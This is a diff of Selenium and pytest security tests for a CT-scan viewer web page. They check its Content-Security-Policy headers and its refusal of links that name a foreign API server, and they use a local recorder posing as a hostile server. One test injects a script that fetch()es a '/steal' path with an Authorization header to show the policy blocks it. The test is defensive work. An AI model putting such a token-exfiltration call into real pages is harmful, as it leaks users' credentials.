@@ -4,6 +4,10 @@ the local stack, on a job the stack really processed.
 Debian's ``chromium`` and ``chromium-driver`` are required (``make browser`` installs them); the
 system chromedriver is passed explicitly and ``SE_OFFLINE`` is set, so Selenium Manager never tries
 to download a driver (nothing is fetched at run time).
+
+Security (issue 19, item 5): the page calls its configured API only (a link's ``?api=`` naming
+another server is refused, and that server gets no request), under a Content-Security-Policy that
+the local front sends and ``firebase.json`` carries for Firebase Hosting, the same policy.
 """
 
 from __future__ import annotations
@@ -11,9 +15,14 @@ from __future__ import annotations
 import io
 import json
 import os
+import re
+import threading
+import time
 from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
+from urllib.parse import urlsplit
 
 import numpy as np
 import pytest
@@ -21,7 +30,10 @@ import requests
 from PIL import Image
 from pydicom.uid import generate_uid
 
+from ichseg.pipeline.config import PipelineConfig
+from ichseg.pipeline.context import PipelineContext
 from ichseg.pipeline.jobs import JobState
+from infrastructure.api_front import aws_link_origins, viewer_csp, viewer_headers
 from infrastructure.local_stack import LocalStack
 from tests.pipeline.conftest import AppClient, head_frames, video_bytes
 from tests.scan_fixtures import dicom_bytes, dicom_series, zip_files
@@ -29,6 +41,21 @@ from tests.scan_fixtures import dicom_bytes, dicom_series, zip_files
 CHROMIUM = "/usr/bin/chromium"
 CHROMEDRIVER = "/usr/bin/chromedriver"
 WAIT_SECONDS = 20.0
+QUIET_SECONDS = 3.0
+"""How long a server that must get nothing is watched after the page has settled."""
+HOSTING_CONFIG = Path(__file__).resolve().parents[2] / "firebase.json"
+HOSTING_PLACEHOLDERS = {"api_origin": "__API_ORIGIN__", "bucket": "__BUCKET__", "region": "__REGION__"}
+"""What docs/deploy.md replaces in firebase.json with the stack's values at deploy time."""
+EXPECTED_FIXED_DIRECTIVES = {
+    "default-src": {"'none'"},
+    "script-src": {"'self'"},
+    "style-src": {"'self'"},
+    "object-src": {"'none'"},
+    "base-uri": {"'none'"},
+    "form-action": {"'none'"},
+    "frame-ancestors": {"'none'"},
+}
+"""The directives that name no deployment's origins: the same everywhere."""
 
 
 @pytest.fixture(scope="module")
@@ -132,6 +159,92 @@ def _red_pixels(png: bytes) -> int:
     """Pixels clearly redder than grey: the outline's colour; a plain CT slice has none."""
     rgb = np.asarray(Image.open(io.BytesIO(png)).convert("RGB")).astype(np.int16)
     return int(((rgb[..., 0] - rgb[..., 1] > 80) & (rgb[..., 0] - rgb[..., 2] > 80)).sum())
+
+
+def _directives(policy: str) -> dict[str, set[str]]:
+    """A Content-Security-Policy as {directive: its sources}; a repeated directive fails (browsers
+    would ignore the second, so a policy that has one does not say what it seems to)."""
+    parsed: dict[str, set[str]] = {}
+    for part in policy.split(";"):
+        name, *sources = part.split()
+        assert name not in parsed, f"{name} twice in {policy!r}"
+        parsed[name] = set(sources)
+    return parsed
+
+
+def _origin(url: str) -> str:
+    parts = urlsplit(url)
+    return f"{parts.scheme}://{parts.netloc}"
+
+
+class RequestRecorder:
+    """A tiny HTTP server on 127.0.0.1, port 0, that records every request it gets (and answers
+    each with a permissive-CORS 'fake result', as a hostile server would)."""
+
+    def __init__(self) -> None:
+        self.requests: list[tuple[str, str, dict[str, str]]] = []
+        recorder = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def parse_request(self) -> bool:
+                parsed = super().parse_request()
+                if parsed:
+                    recorder.requests.append((self.command, self.path, dict(self.headers.items())))
+                return parsed
+
+            def _answer(self) -> None:
+                body = json.dumps({"job_id": "fake", "state": "DONE"}).encode()
+                self.send_response(200)
+                for name, value in (
+                    ("Access-Control-Allow-Origin", "*"),
+                    ("Access-Control-Allow-Headers", "Authorization"),
+                    ("Content-Type", "application/json"),
+                    ("Content-Length", str(len(body))),
+                ):
+                    self.send_header(name, value)
+                self.end_headers()
+                self.wfile.write(body)
+
+            do_GET = do_OPTIONS = do_POST = _answer
+
+            def log_message(self, format: str, *args: Any) -> None:
+                return None
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_port}"
+        self.thread = threading.Thread(target=self.server.serve_forever, name="viewer-test-recorder", daemon=True)
+        self.thread.start()
+
+    def stop(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+    def assert_quiet(self, seconds: float = QUIET_SECONDS) -> None:
+        """No request now, nor during the next ``seconds`` (a late request would still be caught)."""
+        deadline = time.monotonic() + seconds
+        while True:
+            assert self.requests == [], self.requests
+            if time.monotonic() > deadline:
+                return
+            time.sleep(0.1)
+
+
+@pytest.fixture
+def recorder() -> Iterator[RequestRecorder]:
+    """Another server, as a crafted link would name it; it proves it can be reached before use."""
+    server = RequestRecorder()
+    try:
+        assert requests.get(f"{server.url}/probe", timeout=10).status_code == 200
+        assert [(method, path) for method, path, _ in server.requests] == [("GET", "/probe")]
+        server.requests.clear()
+        yield server
+    finally:
+        server.stop()
+
+
+def _severe(driver: Any) -> list[dict[str, Any]]:
+    """The console's errors since the last call (reading the log empties it)."""
+    return [entry for entry in driver.get_log("browser") if entry["level"] == "SEVERE"]
 
 
 def test_the_status_reply_links_every_slice_frame_and_mask(
@@ -323,3 +436,132 @@ def test_a_video_scan_shows_no_series_nor_spacing(
     for hidden in ("series-block", "spacing-block", "slice-extent-row", "slice-note-row"):
         assert not driver.find_element(By.ID, hidden).is_displayed(), hidden
     assert driver.find_element(By.ID, "slice-probability").is_displayed()
+
+
+# ---------------------------------------------------------------------- security (issue 19, item 5)
+
+
+def test_the_front_sends_the_viewer_csp_naming_the_api_and_the_links_origin(
+    stack: LocalStack, finished_job: tuple[str, dict[str, Any]]
+) -> None:
+    job_id, _ = finished_job
+    # The origin the API's presigned links really use (moto's, path-style): what the policy must allow.
+    status = AppClient(stack, "viewer-user").status(job_id).json()
+    link_origins = {_origin(status["results"]["report"])}
+    link_origins |= {_origin(item[kind]) for item in status["slices"] for kind in ("frame", "mask")}
+    assert link_origins == {_origin(stack.moto_url)}
+    expected = {
+        **EXPECTED_FIXED_DIRECTIVES,
+        "img-src": {*link_origins, "data:"},
+        "connect-src": {"'self'", *link_origins},  # the API is the front that serves the page
+    }
+    for path in ("/viewer/", "/viewer/index.html", "/viewer/viewer.js", "/viewer/config.js", "/viewer/nothing.html"):
+        response = requests.get(stack.api_url + path, timeout=30)
+        assert _directives(response.headers["Content-Security-Policy"]) == expected, path
+        assert response.headers["Referrer-Policy"] == "no-referrer", path
+        assert response.headers["X-Content-Type-Options"] == "nosniff", path
+    page = requests.get(f"{stack.api_url}/viewer/", timeout=30)
+    assert page.headers["Content-Security-Policy"] == viewer_csp("'self'", [_origin(stack.moto_url)])
+    # script-src 'self' without 'unsafe-inline': the page must have no inline script, handler nor style.
+    markup = re.sub(r"<!--.*?-->", "", page.text, flags=re.DOTALL)
+    assert re.findall(r"<script\b[^>]*>", markup) == ['<script src="config.js">', '<script src="viewer.js">']
+    assert not re.search(r"\son[a-z]+\s*=|\sstyle\s*=|<style\b|javascript:", markup, flags=re.IGNORECASE)
+
+
+def test_the_hosting_config_carries_the_local_fronts_headers(
+    stack: LocalStack, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    hosting = json.loads(HOSTING_CONFIG.read_text())["hosting"]
+    rules = [rule for rule in hosting["headers"] if rule["source"] == "**"]
+    assert len(rules) == 1, hosting["headers"]
+    served = {header["key"]: header["value"] for header in rules[0]["headers"]}
+    # One source of truth: the file is the front's builder, with deploy.md's placeholders for the stack's values.
+    placeholders = HOSTING_PLACEHOLDERS
+    cloud = viewer_headers(placeholders["api_origin"], aws_link_origins(placeholders["bucket"], placeholders["region"]))
+    assert served == cloud
+    # The same policy as the local front sends, but for where the API and the links are.
+    local = requests.get(f"{stack.api_url}/viewer/", timeout=30).headers
+    assert {name: local[name] for name in served if name != "Content-Security-Policy"} == {
+        name: value for name, value in served.items() if name != "Content-Security-Policy"
+    }
+    cloud_csp = _directives(served["Content-Security-Policy"])
+    local_csp = _directives(local["Content-Security-Policy"])
+    assert set(cloud_csp) == set(local_csp)
+    assert {name: cloud_csp[name] for name in EXPECTED_FIXED_DIRECTIVES} == EXPECTED_FIXED_DIRECTIVES
+    assert {name: local_csp[name] for name in EXPECTED_FIXED_DIRECTIVES} == EXPECTED_FIXED_DIRECTIVES
+    bucket_origins = set(aws_link_origins(placeholders["bucket"], placeholders["region"]))
+    assert cloud_csp["connect-src"] == {placeholders["api_origin"], *bucket_origins}
+    assert cloud_csp["img-src"] == {*bucket_origins, "data:"}
+    # The API's own presigning (the Lambda's boto3 pin, no endpoint override) lands on one of those origins.
+    for variable in ("AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_S3"):
+        monkeypatch.delenv(variable, raising=False)
+    import boto3
+
+    bucket, region = "ichseg-123456789012-eu-west-1-0a1b2c3d4e5f", "eu-west-1"
+    session = boto3.session.Session(aws_access_key_id="AKIDEXAMPLE", aws_secret_access_key="secret", region_name=region)
+    s3 = PipelineContext(PipelineConfig(bucket=bucket), session=session).s3
+    link = s3.generate_presigned_url("get_object", Params={"Bucket": bucket, "Key": "results/j/report.json"})
+    assert _origin(link) in aws_link_origins(bucket, region), link
+
+
+def test_a_link_naming_another_api_is_refused_and_that_server_gets_nothing(
+    browser: Any, stack: LocalStack, finished_job: tuple[str, dict[str, Any]], recorder: RequestRecorder
+) -> None:
+    from selenium.webdriver.common.by import By
+
+    driver = browser
+    job_id, _ = finished_job
+    token = stack.token("viewer-user")
+    driver.get("about:blank")
+    _severe(driver)  # what earlier tests left in the log
+
+    driver.get(f"{stack.api_url}/viewer/?job={job_id}&api={recorder.url}#token={token}")
+    message = driver.find_element(By.ID, "message")
+    _wait(driver, lambda d: "Refused" in message.text, f"no refusal shown: {message.text!r}")
+    assert message.get_attribute("class") == "error"
+    assert recorder.url in message.text and stack.api_url in message.text
+    assert "token" not in driver.current_url  # dropped from the address bar all the same
+    assert not driver.find_element(By.ID, "viewer").is_displayed()
+    assert not driver.find_element(By.ID, "signin").is_displayed()  # no asking for a token to send there
+    recorder.assert_quiet()
+    # Nothing blocked either: the page never tried (a try would be a CSP violation in the console).
+    assert _severe(driver) == []
+
+    # Without a token the page would ask for one: it must refuse before that too.
+    driver.get("about:blank")
+    driver.get(f"{stack.api_url}/viewer/?job={job_id}&api={recorder.url}")
+    message = driver.find_element(By.ID, "message")
+    _wait(driver, lambda d: "Refused" in message.text, f"no refusal shown: {message.text!r}")
+    assert not driver.find_element(By.ID, "signin").is_displayed()
+    recorder.assert_quiet(0.5)
+
+    # Naming the viewer's own API is no threat: such links (the app's ?api=<ApiUrl>) still open.
+    driver.get("about:blank")
+    driver.get(f"{stack.api_url}/viewer/?job={job_id}&api={stack.api_url}/#token={token}")
+    _wait(driver, lambda d: _canvas_state(d).get("slice") not in (None, "-1"), "the scan never showed")
+    assert recorder.requests == [] and _severe(driver) == []
+
+
+def test_the_browser_enforces_the_csp_on_the_viewer_page(
+    browser: Any, stack: LocalStack, finished_job: tuple[str, dict[str, Any]], recorder: RequestRecorder
+) -> None:
+    """The header is not decoration: a script on the page (here WebDriver's, as an injected one
+    would) cannot reach another server, and the violation reaches the console the other tests read."""
+    driver = browser
+    job_id, _ = finished_job
+    driver.get("about:blank")
+    driver.get(f"{stack.api_url}/viewer/?job={job_id}#token={stack.token('viewer-user')}")
+    _wait(driver, lambda d: _canvas_state(d).get("slice") not in (None, "-1"), "the scan never showed")
+    assert _severe(driver) == []  # the viewer itself works within its policy
+    outcome = driver.execute_async_script(
+        """
+        const done = arguments[arguments.length - 1];
+        fetch(arguments[0] + "/steal", {headers: {Authorization: "Bearer x"}})
+          .then(() => done("sent"), (error) => done("blocked: " + error));
+        """,
+        recorder.url,
+    )
+    assert outcome.startswith("blocked"), outcome
+    recorder.assert_quiet()
+    violations = [entry for entry in _severe(driver) if "Content Security Policy" in entry["message"]]
+    assert violations and "connect-src" in violations[0]["message"], violations
